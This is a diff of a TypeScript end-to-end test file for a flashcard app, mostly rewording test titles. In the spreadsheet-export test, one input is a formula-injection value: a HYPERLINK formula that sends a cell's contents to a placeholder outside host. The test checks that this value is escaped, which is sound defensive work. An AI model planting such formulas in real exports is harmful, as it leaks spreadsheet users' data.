@@ -1,4 +1,4 @@
-// What a learner does with cards: keep, edit, reject, take away, and find them again.
+// What a learner does with cards: keep, edit, reject, download, and find them again.
 
 import assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
@@ -11,7 +11,7 @@ import { button, cards, cardsAre, expectAccessible, make, openSignedIn, phase, s
 describe('the cards on the page', () => {
   const stage = staged({ RATE_LIMIT_BURST: '1000/60', MAX_CANDIDATES: '3' });
 
-  it('are kept, edited and rejected, over a reload, and what is kept can be taken away', async () => {
+  it('cards are kept, edited, rejected and downloaded, over a reload', async () => {
     const { tab } = await openSignedIn(stage());
     await make(tab, lesson());
     await phase(tab, 'done');
@@ -44,7 +44,7 @@ describe('the cards on the page', () => {
     await says(tab, '#progress', '1 kept · 1 rejected · 1 open');
   });
 
-  it('are left as they were by Escape', async () => {
+  it('Escape leaves a card unchanged', async () => {
     const { tab } = await openSignedIn(stage());
     await make(tab, lesson());
     await phase(tab, 'done');
@@ -56,7 +56,7 @@ describe('the cards on the page', () => {
     await says(tab, '#progress', /^3 cards$/);
   });
 
-  it('are written from right to left where their language is', async () => {
+  it('cards are written right to left where their language is', async () => {
     const { tab } = await openSignedIn(stage());
     // The words of ../shared/cases/99.
     const words = { front: 'מהי בירת צרפת (Paris)?', back: 'פריז (Paris), 2.1 מיליון תושבים.', prompt: 'ما عاصمة فرنسا؟' };
@@ -75,7 +75,7 @@ describe('the cards on the page', () => {
     assert.equal(await directionOf(textBox(tab)), 'ltr');
   });
 
-  it('are no formulas in a spreadsheet', async () => {
+  it('downloaded cards are no formulas in a spreadsheet', async () => {
     const { tab } = await openSignedIn(stage());
     const cells: [text: string, cell: string][] = [
       ['=HYPERLINK("http://x.example?"&A1)', `"'=HYPERLINK(""http://x.example?""&A1)"`],
@@ -100,19 +100,19 @@ describe('the cards on the page', () => {
     }
   });
 
-  /** The next answer of the model has these cards. */
+  /** Queues a model answer with these cards. */
   function nextCards(candidates: { front: string; back: string; prompt: string }[]): void {
     stage().service.world.openrouter.next(answer({ content: JSON.stringify({ candidates }) }));
   }
 
   const directionOf = (element: Locator) => element.evaluate((each) => getComputedStyle(each).direction);
 
-  it('are found again among the past sessions, page by page', async () => {
+  it('cards are found again among the past sessions, page by page', async () => {
     const { tab, user } = await openSignedIn(stage());
     await button(tab, 'Past sessions').click();
     await tab.getByText('None yet').waitFor();
     await tab.keyboard.press('Escape');
-    assert.equal(await tab.evaluate(() => document.activeElement?.id), 'open-past', 'the focus is back where it was');
+    assert.equal(await tab.evaluate(() => document.activeElement?.id), 'open-past', 'the focus is back on its element');
 
     const token = stage().service.world.auth.token(user);
     for (let n = 1; n <= 11; n += 1) {
